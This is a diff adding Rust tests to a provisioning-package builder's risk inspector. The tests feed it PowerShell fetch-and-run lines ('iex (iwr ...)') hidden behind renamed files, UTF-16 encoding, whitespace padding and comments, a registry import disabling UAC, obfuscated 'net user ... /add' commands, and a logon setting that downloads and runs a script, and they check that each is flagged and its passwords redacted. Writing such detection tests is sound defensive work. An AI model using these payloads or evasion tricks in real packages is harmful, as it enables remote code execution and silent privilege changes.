@@ -166,6 +166,117 @@ fn spec(folder: &TempDir, command: &str) -> PathBuf {
     folder.path().join("out/Job.ppkg")
 }
 
+/// A package of our own with a file, and a command that is given it.
+fn with_file(name: &str, bytes: &[u8], command: &str) -> (TempDir, PathBuf) {
+    let folder = TempDir::new().unwrap();
+    fs::write(folder.path().join(name), bytes).unwrap();
+    let text = format!(
+        "[package]\nname = \"Job\"\nversion = \"1.0\"\nowner = \"ITAdmin\"\n\n\
+         [[command]]\nrun = {command:?}\nfiles = [{name:?}]\n"
+    );
+    fs::write(folder.path().join("spec.toml"), text).unwrap();
+    let output = ppkgc(folder.path(), ["build", "spec.toml", "-o", "out"]).output().unwrap();
+    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+    let package = folder.path().join("out/Job.ppkg");
+    (folder, package)
+}
+
+/// Fetches and runs, in PowerShell.
+const FETCH: &str = "iex (iwr https://files.example.com/a.ps1)\r\n";
+
+#[test]
+fn what_a_command_is_given_is_read_whatever_it_is_called() {
+    for (name, run) in [
+        ("data.dat", "powershell -c \"gc data.dat -raw | iex\""),
+        ("notes.txt", "cmd /c ren notes.txt a.ps1 & powershell -f a.ps1"),
+        ("plain", "cmd /c copy plain a.cmd & a.cmd"),
+    ] {
+        let (_folder, package) = with_file(name, FETCH.as_bytes(), run);
+        assert_eq!(report(&package, &[]).0["verdict"], "high", "{name}");
+    }
+    let (_folder, package) = with_file("readme.txt", FETCH.as_bytes(), "xcopy readme.txt C:\\Contoso");
+    assert_eq!(report(&package, &[]).0["verdict"], "medium", "a text that only lies there warns, or is told of");
+}
+
+#[test]
+fn scripts_are_found_in_every_encoding_and_behind_any_length() {
+    let run = "powershell -File a.ps1";
+    let wide: Vec<u8> = format!("\u{feff}{FETCH}").encode_utf16().flat_map(u16::to_le_bytes).chain([b'\n']).collect();
+    let long = format!("{}{FETCH}", format!("{}\n", " ".repeat(1023)).repeat(3 << 10));
+    let commented = format!("# from <# to\r\n{FETCH}# #>\r\n");
+    for bytes in [wide.as_slice(), long.as_bytes(), commented.as_bytes()] {
+        let (_folder, package) = with_file("a.ps1", bytes, run);
+        let (report, code) = report(&package, &[]);
+        assert_eq!((report["verdict"].as_str(), code), (Some("high"), 1));
+    }
+}
+
+#[test]
+fn a_long_text_is_not_judged_and_a_long_program_is() {
+    let text = format!("{}\n", "rem ".repeat(256)).repeat(9 << 10);
+    let (_folder, package) = with_file("a.cmd", text.as_bytes(), "cmd /c a.cmd");
+    let (judged, code) = report(&package, &[]);
+    assert_eq!((&judged["complete"], code), (&Value::Bool(false), 2));
+    let mut state = 1_u32;
+    let mut noise = || {
+        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
+        (state >> 24) as u8
+    };
+    let program: Vec<u8> = b"MZ".iter().copied().chain((0..9 << 20).map(|_| noise())).collect();
+    let (_folder, package) = with_file("setup.exe", &program, "setup.exe /S");
+    let (judged, code) = report(&package, &[]);
+    assert_eq!((&judged["complete"], judged["verdict"].as_str(), code), (&Value::Bool(true), Some("medium"), 0));
+}
+
+#[test]
+fn an_export_of_the_registry_is_judged_by_its_values() {
+    let export = |key: &str, value: &str| format!("Windows Registry Editor Version 5.00\r\n\r\n[{key}]\r\n{value}\r\n");
+    let system = "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System";
+    for (key, value, verdict) in [
+        (system, "\"EnableLUA\"=dword:00000000", "high"),
+        (system, "\"EnableLUA\"=dword:00000001", "medium"),
+        ("HKEY_LOCAL_MACHINE\\SOFTWARE\\Contoso", "\"Editor\"=\"C:\\\\Windows\\\\notepad.exe\"", "medium"),
+    ] {
+        let (_folder, package) = with_file("a.reg", export(key, value).as_bytes(), "reg import a.reg");
+        assert_eq!(report(&package, &[]).0["verdict"], verdict, "{value}");
+    }
+}
+
+#[test]
+fn secrets_are_hidden_in_every_layer() {
+    let folder = TempDir::new().unwrap();
+    for line in [
+        "net user helper Zx7Kq9V^w4Rt2 /add",
+        "n^et u^ser helper Zx7Kq9Vw4Rt2 /add",
+        "cmd /c \"set a=Zx7Kq9&set b=Vw4Rt2&net user helper %a%%b% /add\"",
+        "schtasks /create /tn a /tr b /ru helper /rp Zx7Kq9Vw4Rt2",
+    ] {
+        let package = spec(&folder, line);
+        for format in ["human", "json", "sarif"] {
+            let arguments = ["inspect", "--risk", "--fail-on", "never", "--format", format];
+            let output = ppkgc(folder.path(), arguments).arg(&package).output().unwrap();
+            let shown = String::from_utf8_lossy(&output.stdout).to_lowercase();
+            assert!(!shown.contains("zx7kq9vw4rt2") && !shown.contains("zx7kq9v^w4rt2"), "{line} {format}: {shown}");
+        }
+    }
+}
+
+#[test]
+fn programs_inside_settings_are_read_as_commands() {
+    let folder = TempDir::new().unwrap();
+    let write = |value: &str| {
+        let text = format!(
+            "[package]\nname = \"Job\"\nversion = \"1.0\"\nowner = \"ITAdmin\"\n\n[settings]\n\
+             \"Policies/ApplicationManagement/LaunchAppAfterLogOn\" = {value:?}\n"
+        );
+        fs::write(folder.path().join("spec.toml"), text).unwrap();
+        succeed(&mut ppkgc(folder.path(), ["build", "spec.toml", "-o", "out", "--quiet"]));
+        report(&folder.path().join("out/Job.ppkg"), &[]).0["verdict"].as_str().unwrap().to_owned()
+    };
+    assert_eq!(write("powershell -c \"iwr https://files.example.com/a.ps1 | iex\""), "high");
+    assert_eq!(write("C:\\Program Files\\Contoso\\tray.exe"), "medium");
+}
+
 fn sorted(folder: &Path) -> Vec<PathBuf> {
     let mut paths: Vec<PathBuf> = fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()).collect();
     paths.sort();
